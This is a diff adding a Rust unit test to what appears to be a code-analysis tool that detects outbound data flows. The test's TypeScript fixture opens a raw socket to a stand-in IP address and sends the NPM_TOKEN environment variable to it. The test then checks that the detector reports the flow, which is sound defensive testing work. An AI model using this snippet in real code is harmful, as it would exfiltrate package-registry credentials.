@@ -245,3 +245,21 @@ def leak():
     assert!(f.flows.iter().all(|f| f.host.as_deref() != Some("stats.example.org")), "{:?}", f.flows);
     assert!(f.flows.iter().any(|f| f.host.as_deref() == Some("collect.example.net")), "{:?}", f.flows);
 }
+
+#[test]
+fn a_raw_socket_names_its_peer() {
+    let code = r#"import { connect } from "node:net";
+const sock = connect({ host: "198.51.100.23", port: 5140 }, () => {
+  sock.end("tok=" + process.env.NPM_TOKEN + "\n");
+});
+"#;
+    let f = facts(Lang::Typescript, code);
+    assert!(
+        f.flows.iter().any(|f| f.channel == Channel::Socket && f.host.as_deref() == Some("198.51.100.23")),
+        "{:?}",
+        f.flows
+    );
+    // Without the net module, `connect` is somebody else's function.
+    let code = "const db = connect({ host: \"db.internal.example\" }, () => use(process.env.NPM_TOKEN));\n";
+    assert!(facts(Lang::Javascript, code).flows.is_empty());
+}
